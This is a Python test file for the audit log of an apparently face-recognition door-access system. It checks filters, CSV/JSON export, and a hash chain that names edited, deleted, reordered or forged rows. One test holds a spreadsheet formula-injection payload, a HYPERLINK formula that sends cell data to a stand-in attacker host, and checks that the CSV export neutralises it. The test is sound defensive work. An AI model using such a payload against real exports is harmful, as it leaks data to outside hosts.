"""The audit log: filters, CSV/JSON round-trips, and a hash chain that names tampered rows."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from sqlalchemy import update

from gatekeeper.services.audit import AuditFilter, AuditLog, summary, to_csv, to_json
from gatekeeper.storage.database import open_database
from gatekeeper.storage.models import AuditEvent
from gatekeeper.core.types import Verdict
from gatekeeper.services.audit import Reading

T0 = datetime(2026, 11, 1, 8, 0, tzinfo=timezone.utc)
KEY = bytes(range(32))  # the audit chain's HMAC key in these tests


@pytest.fixture
def audit(db_url: str) -> AuditLog:
    log = AuditLog(open_database(db_url), KEY)
    rows = [
        ("front", "granted", "alice", 0), ("front", "denied-unknown", None, 1), ("back", "granted", "bob", 25),
        ("front", "denied-ambiguous", "alice", 26), ("back", "error", None, 49), ("front", "granted", "alice", 50),
    ]
    for door, decision, person, hours in rows:
        log.record(door, Verdict(decision, person, 0.81234567 if person else 0.2, 0.3), Reading(threshold=0.6, margin=0.05, model_version="m1", quality={"inter_eye_px": 51.0}), at=T0 + timedelta(hours=hours))
    return log


def test_filters_combine(audit: AuditLog) -> None:
    assert len(audit.query(AuditFilter())) == 6
    assert [r.person_id for r in audit.query(AuditFilter(decision="granted"))] == ["alice", "bob", "alice"]
    assert len(audit.query(AuditFilter(person_id="alice", door_id="front"))) == 3
    day2 = audit.query(AuditFilter(since=T0 + timedelta(hours=24), until=T0 + timedelta(hours=48)))
    assert [r.decision for r in day2] == ["granted", "denied-ambiguous"]
    assert summary(audit.query(AuditFilter()))["per decision"]["granted"] == 3


def test_json_and_csv_round_trip(audit: AuditLog) -> None:
    rows = audit.query(AuditFilter())
    as_json = json.loads(to_json(rows))
    as_csv = list(csv.DictReader(io.StringIO(to_csv(rows))))
    assert len(as_json) == len(as_csv) == 6
    for j, c, r in zip(as_json, as_csv, rows):
        assert j["event_id"] == int(c["event_id"]) == r.event_id
        assert j["decision"] == c["decision"] == r.decision
        assert j["row_hash"] == c["row_hash"] == r.row_hash
        assert datetime.fromisoformat(j["at"].rstrip("Z")) == r.at.replace(tzinfo=None)
        if r.person_id:
            assert float(c["best_similarity"]) == pytest.approx(j["best_similarity"]) == pytest.approx(0.812346)
        assert json.loads(c["quality"]) == j["quality"] == {"inter_eye_px": 51.0}


def test_intact_chain_verifies(audit: AuditLog) -> None:
    assert audit.verify() == []


def test_edited_row_is_named(audit: AuditLog) -> None:
    with audit.sessions.begin() as s:
        s.execute(update(AuditEvent).where(AuditEvent.event_id == 2).values(decision="granted", person_id="mallory"))
    assert audit.verify() == ["event 2: content does not match its hash (row edited)", "event 2: person or snapshot does not match its digest (row edited)"]


def test_grant_reattributed_to_another_person_is_named(audit: AuditLog) -> None:
    with audit.sessions.begin() as s:
        s.execute(update(AuditEvent).where(AuditEvent.event_id == 3).values(person_id="mallory"))
    assert audit.verify() == ["event 3: person or snapshot does not match its digest (row edited)"]


def test_deleted_row_is_named(audit: AuditLog) -> None:
    with audit.sessions.begin() as s:
        s.delete(s.get(AuditEvent, 3))
    assert audit.verify() == ["event 4: chain broken before this row (a row was deleted, inserted or reordered)"]


def test_deleted_last_row_is_noticed(audit: AuditLog) -> None:
    with audit.sessions.begin() as s:
        s.delete(s.get(AuditEvent, 6))
    assert audit.verify() == ["rows after event 5 are missing (log truncated)"]


def test_reordered_rows_are_named(audit: AuditLog) -> None:
    with audit.sessions.begin() as s:  # swap the contents of rows 2 and 3, hashes included
        a, b = s.get(AuditEvent, 2), s.get(AuditEvent, 3)
        cols = ["at", "door_id", "decision", "person_id", "best_similarity", "prev_hash", "row_hash"]
        va, vb = [getattr(a, c) for c in cols], [getattr(b, c) for c in cols]
        for c, x, y in zip(cols, vb, va):
            setattr(a, c, x)
            setattr(b, c, y)
    problems = audit.verify()
    assert any(p.startswith("event 2:") for p in problems) and any(p.startswith("event 3:") for p in problems)


def test_inserted_row_is_named(audit: AuditLog) -> None:
    with audit.sessions.begin() as s:
        forged = AuditEvent(event_id=100, at=T0, door_id="front", decision="granted", person_id="mallory", prev_hash="f" * 64, row_hash="e" * 64)
        s.add(forged)
    assert any(p.startswith("event 100:") for p in audit.verify())


def test_purge_keeps_the_rest_verifiable(audit: AuditLog) -> None:
    assert audit.purge(T0 + timedelta(hours=30)) == (4, [])
    rows = audit.query(AuditFilter())
    assert [r.event_id for r in rows] == [5, 6, 7] and rows[-1].decision == "purged" and rows[-1].covers == {"through_event": 4, "rows": 4}
    assert audit.verify() == []
    audit.record("front", Verdict("granted", "bob", None, None))
    assert audit.verify() == []


def test_anonymised_rows_keep_decisions_and_the_chain(audit: AuditLog) -> None:
    result = audit.anonymise("alice", "request 7")
    assert (result.rows, result.legacy_rows) == (3, 0)
    rows = audit.query(AuditFilter())
    assert [r.person_id for r in rows] == [None, None, "bob", None, None, None, None]
    assert [r.decision for r in rows[:6]] == ["granted", "denied-unknown", "granted", "denied-ambiguous", "error", "granted"]
    assert rows[0].best_similarity == pytest.approx(0.812346) and rows[0].anonymised_at is not None
    assert rows[-1].decision == "anonymised" and rows[-1].detail == "3 rows anonymised on request (request 7)"
    assert audit.verify() == []
    assert audit.query(AuditFilter(person_id="alice")) == []


def test_name_put_back_into_an_anonymised_row_is_named(audit: AuditLog) -> None:
    audit.anonymise("alice", "request 7")
    with audit.sessions.begin() as s:
        s.execute(update(AuditEvent).where(AuditEvent.event_id == 6).values(person_id="alice"))
    assert audit.verify() == ["event 6: person or snapshot does not match its digest (row edited)"]


def test_rows_from_before_revision_0002_verify_and_stay_named(tmp_path: Path) -> None:
    """A database created at schema 0001 with rows in it: migrated, its chain still verifies;
    its old rows cannot be anonymised (their hash covers the name) and are reported as such."""
    from alembic import command
    from alembic.config import Config
    from sqlalchemy import create_engine

    from gatekeeper.storage.audit_chain import GENESIS, row_digest
    from gatekeeper.storage.database import MIGRATIONS

    url = f"sqlite:///{tmp_path / 'old.db'}"
    engine = create_engine(url)
    cfg = Config()
    cfg.set_main_option("script_location", str(MIGRATIONS))
    with engine.begin() as conn:
        cfg.attributes["connection"] = conn
        command.upgrade(cfg, "0001")
    old = AuditEvent(event_id=1, at=T0, door_id="front", decision="granted", person_id="alice", best_similarity=0.9, prev_hash=GENESIS, row_hash="")
    old.row_hash = row_digest(old, GENESIS)  # personal_digest is None: the 0001 way of hashing
    with engine.begin() as conn:
        conn.exec_driver_sql(
            "INSERT INTO audit_events (event_id, at, door_id, decision, person_id, best_similarity, prev_hash, row_hash) VALUES (1, ?, 'front', 'granted', 'alice', 0.9, ?, ?)",
            (T0.replace(tzinfo=None).isoformat(sep=" "), GENESIS, old.row_hash),
        )
        conn.exec_driver_sql("INSERT INTO meta (key, value) VALUES ('audit_head', ?)", (old.row_hash,))
    engine.dispose()
    log = AuditLog(open_database(url), KEY)  # migrates to head
    assert [p.split(":")[0] for p in log.verify()] == ["unprotected rows"]  # verifies, but says it is unkeyed
    log.record("front", Verdict("granted", "alice", None, None))
    result = log.anonymise("alice", "request 8")
    assert (result.rows, result.legacy_rows) == (1, 1)
    assert [r.person_id for r in log.query(AuditFilter())] == ["alice", None, None]
    assert log.seal_legacy() == 1  # the admin checked the old row: it is protected from now on
    assert log.verify() == []


def test_csv_export_neutralises_formulas(audit: AuditLog) -> None:
    """Issue #11: an id or door name written like a formula must reach a spreadsheet as text."""
    hostile = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
    audit.record("@SUM(1+1)", Verdict("granted", hostile, 0.99, 0.5), Reading(threshold=0.9, margin=0.01, model_version="+m", quality={"inter_eye_px": 50.0}))
    rows = list(csv.DictReader(io.StringIO(to_csv(audit.query(AuditFilter(door_id="@SUM(1+1)"))))))
    assert rows[0]["person_id"] == "'" + hostile
    assert rows[0]["door_id"] == "'@SUM(1+1)" and rows[0]["model_version"] == "'+m"
    assert not any(str(v).startswith(("=", "+", "@")) for row in rows for v in row.values())


def test_an_age_beyond_the_calendar_is_a_clear_error(tmp_path: Path) -> None:
    """Issue #11: `audit --since 99999999999d` used to end in an OverflowError traceback."""
    import os
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-m", "gatekeeper", "audit", "--since", "99999999999d"], capture_output=True, text=True, timeout=120,
                          env={**os.environ, "GATEKEEPER_DATA_DIR": str(tmp_path / "data")})
    assert done.returncode == 2, done.stdout + done.stderr
    assert "reaches before year 1" in " ".join(done.stderr.split()) and "Traceback" not in done.stderr
